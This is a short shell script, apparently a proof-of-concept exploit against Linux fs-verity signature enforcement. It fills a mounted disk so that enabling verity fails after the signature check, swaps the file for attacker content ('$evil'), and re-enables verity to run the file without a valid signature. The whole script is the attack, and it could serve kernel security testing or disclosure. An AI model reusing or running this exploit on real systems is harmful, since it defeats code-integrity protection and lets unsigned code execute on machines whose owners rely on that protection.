# shellcheck shell=sh disable=SC2154
#
# stale-fs-verity - let the kernel remember a signature that it verified on a file of another content
#
# To enable fs-verity on a validly signed file fails on a full disk after the signature was verified. The
# file has 4096 bytes, so that there is no hash tree that finds the disk full before.
# SPDX-License-Identifier: MIT

mkdir -p /tmp/stale
mount /dev/vdc /tmp/stale
cp /attack/small /tmp/stale/program
chmod 755 /tmp/stale/program
sync
dd if=/dev/zero of=/tmp/stale/full bs=65536 2>/dev/null
sync
dd if=/dev/zero of=/tmp/stale/full2 bs=512 2>/dev/null
sync
# The kernel's memory of the file must not go.
exec 5</tmp/stale/program
/attack/fsverity /tmp/stale/program /attack/small.fsverity
rm /tmp/stale/full /tmp/stale/full2
sync
cat "$evil" >/tmp/stale/program
/attack/fsverity /tmp/stale/program && echo 'enabled without a signature'
/tmp/stale/program
exec 5<&-
rm /tmp/stale/program
umount /tmp/stale
